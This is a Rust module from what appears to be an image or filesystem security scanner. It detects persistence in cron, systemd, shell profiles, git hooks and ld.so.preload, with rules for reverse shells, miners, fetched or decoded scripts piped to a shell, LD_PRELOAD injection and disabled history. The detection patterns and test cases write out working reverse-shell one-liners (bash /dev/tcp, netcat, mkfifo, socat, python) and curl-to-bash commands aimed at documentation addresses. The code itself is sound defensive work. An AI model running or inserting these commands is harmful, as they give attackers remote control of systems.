//! Persistence: what is run at a start, a login, a plug or a time, judged by what it runs: reverse
//! shells, miners, scripts fetched and run at once, libraries pushed into every program.

use super::Artifact;
use super::judge;
use super::paths;
use super::piece::Piece;
use crate::blob::{Blob, Budget, Out};
use crate::error::Result;
use crate::finding::{Grade, Match, Rule, Severity};

/// The parser of what is run by itself.
pub(super) const ARTIFACT: Artifact = Artifact { name: "persistence", applies, run };

/// The parser of the list of libraries that every program loads
/// ([ld.so(8)](https://man7.org/linux/man-pages/man8/ld.so.8.html)).
pub(super) const PRELOAD: Artifact =
    Artifact { name: "ld.so.preload", applies: is_preload, run: preload };

const ROTATE: &str = "Find out who put it there; if nobody knows, take the image for compromised: build it anew and change every secret in it.";

static SHELL: Rule = Rule {
    id: "persist.reverse_shell",
    title: "Reverse shell",
    severity: Severity::Critical,
    rotate: ROTATE,
};
static MINER: Rule = Rule {
    id: "persist.miner",
    title: "Cryptocurrency miner",
    severity: Severity::High,
    rotate: ROTATE,
};
static FETCHED: Rule = Rule {
    id: "persist.fetched_script",
    title: "Script that is fetched and run at once, by itself",
    severity: Severity::High,
    rotate: ROTATE,
};
static HIDDEN: Rule = Rule {
    id: "persist.encoded_script",
    title: "Encoded script that is decoded and run at once",
    severity: Severity::High,
    rotate: ROTATE,
};
static PRELOADED: Rule = Rule {
    id: "persist.preload",
    title: "Library that every program loads",
    severity: Severity::Critical,
    rotate: ROTATE,
};
static PRELOAD_VARIABLE: Rule = Rule {
    id: "persist.preload_variable",
    title: "Library pushed into programs through LD_PRELOAD",
    severity: Severity::High,
    rotate: ROTATE,
};
static NO_HISTORY: Rule = Rule {
    id: "persist.history_off",
    title: "Shells that keep no history",
    severity: Severity::Low,
    rotate: "Ask why: it hides what was typed, from you too.",
};

const PLACES: [&str; 54] = [
    "etc/crontab",
    "etc/anacrontab",
    "cron.d/*",
    "cron.hourly/*",
    "cron.daily/*",
    "cron.weekly/*",
    "cron.monthly/*",
    "spool/cron/*",
    "cron/crontabs/*",
    "cron/tabs/*",
    "cron/atjobs/*",
    "spool/at/*",
    "etc/rc.local",
    "rc.d/rc.local",
    "etc/init.d/*",
    "rc.d/init.d/*",
    "etc/init/*.conf",
    "systemd/system/*.service",
    "systemd/system/*.timer",
    "systemd/user/*.service",
    "*.service.d/*.conf",
    "systemd/system-generators/*",
    "etc/environment",
    "environment.d/*.conf",
    "etc/profile",
    "profile.d/*",
    "etc/bash.bashrc",
    "etc/bashrc",
    "etc/zshrc",
    "zsh/zshrc",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".zshenv",
    "update-motd.d/*",
    "udev/rules.d/*.rules",
    "dispatcher.d/*",
    "dhclient-enter-hooks.d/*",
    "dhclient-exit-hooks.d/*",
    "if-up.d/*",
    "apt.conf.d/*",
    "dnf/plugins/*",
    "autostart/*.desktop",
    "logrotate.d/*",
    "etc/rc.conf",
    "per-boot/*",
    "per-instance/*",
    "modprobe.d/*.conf",
    "xmrig*",
    "config_background.json",
];

const HISTORIES: [&str; 6] = [
    ".bash_history*",
    ".zsh_history*",
    ".sh_history*",
    ".ash_history*",
    ".history",
    "fish_history",
];

fn is_history(path: &[u8]) -> bool {
    paths::ends_with_any(path, &HISTORIES)
}

/// A hook of a repository that is in use.
fn is_hook(path: &[u8]) -> bool {
    paths::ends_with(path, ".git/hooks/*") && !path.ends_with(b".sample")
}

fn applies(blob: &Blob<'_>) -> bool {
    let path = &blob.name;
    let program = blob.bytes.starts_with(b"\x7fELF");
    !program && (paths::ends_with_any(path, &PLACES) || is_history(path) || is_hook(path))
}

fn run(blob: &Blob<'_>, _: &mut Budget, out: &mut dyn FnMut(Out<'_>)) -> Result<()> {
    let typed = is_history(&blob.name);
    for line in Piece::whole(&blob.bytes).lines() {
        let line = line.trim();
        if line.bytes.starts_with(b"#") || line.bytes.len() > LINE_BYTES {
            continue;
        }
        if let Some(mut found) = judged(line, typed) {
            if typed {
                // Somebody typed it: that is a trace, and may have been a lesson.
                found = judge::at_most(found, Severity::High);
            }
            out(Out::Match(found));
        }
    }
    Ok(())
}

/// Longer lines are data.
const LINE_BYTES: usize = 16 * 1024;

fn judged(line: Piece<'_>, typed: bool) -> Option<Match> {
    let text = Text::of(line.bytes);
    let fact = |rule, how: &str| Some(judge::fact(rule, Grade::Strong, line).fact("how", how));
    if let Some(how) = reverse_shell(&text) {
        return fact(&SHELL, how);
    }
    if let Some(how) = miner(&text) {
        return fact(&MINER, how);
    }
    if typed {
        return None;
    }
    if let Some(how) = piped_to_shell(&text) {
        let rule = if how == "decoded" { &HIDDEN } else { &FETCHED };
        return fact(rule, how);
    }
    if let Some(library) = preload_variable(line.bytes) {
        return fact(&PRELOAD_VARIABLE, &String::from_utf8_lossy(library));
    }
    let off = [&b"unset HISTFILE"[..], b"HISTFILE=/dev/null", b"HISTSIZE=0", b"set +o history"];
    let off = off.iter().any(|mark| text.has(mark) && !text.has(&[*mark, b"0"].concat()));
    if off { fact(&NO_HISTORY, "") } else { None }
}

/// A line, with what is needed to look for words in it.
struct Text<'a> {
    bytes: &'a [u8],
    lower: Vec<u8>,
}

impl<'a> Text<'a> {
    fn of(bytes: &'a [u8]) -> Text<'a> {
        Text { bytes, lower: bytes.to_ascii_lowercase() }
    }

    fn has(&self, part: &[u8]) -> bool {
        memchr::memmem::find(self.bytes, part).is_some()
    }

    /// Whether the line has this, in whatever case; it is given in small letters.
    fn says(&self, part: &str) -> bool {
        memchr::memmem::find(&self.lower, part.as_bytes()).is_some()
    }

    /// The words, between white space and the signs that part commands.
    fn words(&self) -> impl Iterator<Item = &'a [u8]> + use<'a> {
        let parts = |byte: &u8| byte.is_ascii_whitespace() || b"|;&()`\"'{}".contains(byte);
        self.bytes.split(parts).filter(|word| !word.is_empty())
    }

    /// Whether a program of one of these names is called.
    fn calls(&self, names: &[&[u8]]) -> bool {
        self.words().any(|word| names.contains(&paths::file_name(word)))
    }
}

const SHELLS: [&[u8]; 6] = [b"sh", b"bash", b"dash", b"zsh", b"ksh", b"ash"];

/// How a line connects a shell to a place elsewhere.
fn reverse_shell(line: &Text<'_>) -> Option<&'static str> {
    let network = line.has(b"/dev/tcp/") || line.has(b"/dev/udp/");
    let both_ways = [&b"0>&1"[..], b"0<&1", b"<&", b"bash -i", b"sh -i", b"<>/dev/tcp"];
    if network && both_ways.iter().any(|mark| line.has(mark)) {
        return Some("/dev/tcp");
    }
    let netcat: [&[u8]; 5] = [b"nc", b"ncat", b"netcat", b"nc.traditional", b"nc.openbsd"];
    let shell = line.calls(&SHELLS) || line.has(b"/sh") || line.has(b"/bash");
    if shell && line.calls(&netcat) {
        let runs = |word: &[u8]| match word {
            b"--exec" | b"--sh-exec" => true,
            [b'-', flags @ ..] => {
                flags.iter().all(u8::is_ascii_alphabetic)
                    && flags.last().is_some_and(|flag| matches!(flag, b'e' | b'c'))
            }
            _ => false,
        };
        if line.words().any(runs) {
            return Some("netcat");
        }
    }
    if line.calls(&[b"mkfifo", b"mknod"])
        && shell
        && (line.calls(&netcat) || line.has(b"s_client") || line.calls(&[b"telnet"]))
    {
        return Some("named pipe");
    }
    let tcp = line.says("tcp") || line.says("openssl");
    if line.calls(&[b"socat"]) && tcp && (line.says("exec:") || line.says("system:")) && shell {
        return Some("socat");
    }
    let code = [
        ("python", line.says("socket") && (line.says("dup2") || line.says("pty.spawn"))),
        ("perl", line.says("perl") && line.says("socket") && line.says("exec")),
        ("ruby", line.says("tcpsocket") && line.says("exec")),
        ("php", line.says("fsockopen") && (line.says("exec") || line.says("proc_open"))),
        ("powershell", line.says("net.sockets.tcpclient") && line.says("getstream")),
        ("lua", line.says("socket.tcp") && line.says("io.popen")),
    ];
    code.into_iter().find(|(_, found)| *found).map(|(name, _)| name)
}

/// What of a miner a line has.
fn miner(line: &Text<'_>) -> Option<&'static str> {
    let marks = [
        "stratum+tcp://",
        "stratum+ssl://",
        "stratum+tls://",
        "stratum2+tcp://",
        "--donate-level",
        "\"donate-level\"",
        "--randomx-",
        "\"rx/0\"",
        "minexmr.com",
        "supportxmr.com",
        "moneroocean.stream",
        "nanopool.org",
        "c3pool.",
        "hashvault.pro",
        "cryptonight",
    ];
    let mark = marks.into_iter().find(|mark| line.says(mark));
    let called = line.calls(&[b"xmrig", b"xmr-stak", b"minerd", b"cpuminer", b"ethminer"]);
    mark.or(called.then_some("called by name"))
}

/// What is handed to a shell without anybody having seen it.
fn piped_to_shell(line: &Text<'_>) -> Option<&'static str> {
    let fetches = line.calls(&[b"curl", b"wget", b"fetch", b"lynx"]);
    let decodes = line.calls(&[b"base64", b"base32", b"xxd", b"openssl"])
        && line.words().any(|word| matches!(word, b"-d" | b"--decode" | b"-D" | b"-r"));
    if !fetches && !decodes {
        return None;
    }
    let takers =
        [&SHELLS[..], &[b"python", b"python3", b"perl", b"ruby", b"node", b"php"]].concat();
    let mut parts = line.bytes.split(|&byte| byte == b'|').skip(1);
    let piped = parts.any(|part| {
        let mut words = part.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
        let first = words.find(|word| {
            let runs_another = matches!(paths::file_name(word), b"sudo" | b"exec" | b"env");
            !runs_another && !word.starts_with(b"-")
        });
        let end = |byte: &u8| b";&)\"'`".contains(byte);
        let first = first.and_then(|word| word.split(end).next()).unwrap_or_default();
        takers.contains(&paths::file_name(first))
    });
    let inside = [
        &b"eval $("[..],
        b"eval \"$(",
        b"eval `",
        b"sh -c \"$(",
        b"bash <(",
        b"source <(",
        b"sh <(",
    ];
    let inside = inside.iter().any(|mark| line.has(mark));
    match (piped || inside, decodes) {
        (true, true) => Some("decoded"),
        (true, false) => Some("fetched"),
        (false, _) => None,
    }
}

/// The library that a line puts into `LD_PRELOAD`; those that are known to be put there for a
/// purpose are left out.
fn preload_variable(line: &[u8]) -> Option<&[u8]> {
    let at = memchr::memmem::find(line, b"LD_PRELOAD=")?;
    let value = line.get(at + b"LD_PRELOAD=".len()..)?;
    let value = value.strip_prefix(b"\"").or(value.strip_prefix(b"'")).unwrap_or(value);
    let end = value.iter().position(|b| b.is_ascii_whitespace() || b"\"';".contains(b));
    let value = value.get(..end.unwrap_or(value.len()))?;
    let name = paths::file_name(value);
    let known = ["libjemalloc", "libtcmalloc", "libmimalloc", "libeatmydata", "libgomp", "libnss_"];
    let known = known.iter().any(|start| name.starts_with(start.as_bytes()));
    let path = value.first().is_some_and(|&first| first == b'/');
    (path && !known).then_some(value)
}

fn is_preload(blob: &Blob<'_>) -> bool {
    paths::ends_with(&blob.name, "etc/ld.so.preload")
}

fn preload(blob: &Blob<'_>, _: &mut Budget, out: &mut dyn FnMut(Out<'_>)) -> Result<()> {
    for line in Piece::whole(&blob.bytes).lines() {
        let cut = line.bytes.iter().position(|&byte| byte == b'#');
        let line = line.sub(0, cut.unwrap_or(usize::MAX));
        for library in line.split(b':').flat_map(Piece::words) {
            out(Out::Match(judge::fact(&PRELOADED, Grade::Strong, library)));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_judged_by_what_they_run() {
        for (line, expected) in [
            ("* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Some(SHELL.id)),
            ("timeout 1 bash -c '</dev/tcp/db/5432' >/dev/null 2>&1", None),
            ("(echo > /dev/tcp/$host/$port) >/dev/null 2>&1", None),
            ("nc -e /bin/sh 192.0.2.1 4444", Some(SHELL.id)),
            ("ncat 192.0.2.1 443 --sh-exec /bin/bash", Some(SHELL.id)),
            ("nc -z localhost 22 && /bin/sh /opt/x.sh", None),
            (
                "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1>/tmp/f",
                Some(SHELL.id),
            ),
            ("socat TCP:192.0.2.1:443 EXEC:/bin/sh,pty", Some(SHELL.id)),
            (
                "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
                Some(SHELL.id),
            ),
            ("ExecStart=/usr/bin/x -o stratum+tcp://pool.example:3333 -u 4", Some(MINER.id)),
            ("/usr/local/bin/xmrig -B", Some(MINER.id)),
            ("curl -fsSL http://192.0.2.1/x | bash", Some(FETCHED.id)),
            ("curl -s http://h/x | sudo -E bash -", Some(FETCHED.id)),
            ("wget -qO- http://h/x|sh", Some(FETCHED.id)),
            ("curl -s http://h/x | jq .", None),
            ("echo ZWNobyB4 | base64 -d | sh", Some(HIDDEN.id)),
            ("bash <(curl -s http://h/x)", Some(FETCHED.id)),
            ("export LD_PRELOAD=/usr/lib/libx.so", Some(PRELOAD_VARIABLE.id)),
            ("Environment=\"LD_PRELOAD=/usr/lib/libjemalloc.so.2\"", None),
            ("LD_PRELOAD= exec x", None),
            ("unset HISTFILE", Some(NO_HISTORY.id)),
            ("HISTSIZE=1000", None),
            ("export HISTSIZE=0", Some(NO_HISTORY.id)),
            ("", None),
        ] {
            let found = judged(Piece::whole(line.as_bytes()), false);
            assert_eq!(found.map(|found| found.rule.id), expected, "{line}");
        }
    }
}
